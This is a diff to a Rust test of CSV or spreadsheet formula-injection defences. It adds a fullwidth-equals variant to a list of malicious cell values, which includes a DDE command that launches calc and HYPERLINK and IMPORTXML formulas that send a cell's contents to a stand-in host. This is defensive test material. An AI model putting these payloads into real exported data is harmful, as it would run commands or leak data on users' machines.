@@ -218,6 +218,7 @@ fn no_formula_leaves_with_us() {
         "@SUM(1+1)*cmd|' /C calc'!A0",
         "=HYPERLINK(\"\"https://exemple.fr?x=\"\"&A1)",
         "\t=1+1",
+        "＝1+1",
         "\r=1+1",
         "=IMPORTXML(CONCAT(\"\"https://exemple.fr/\"\",A1))",
     ] {
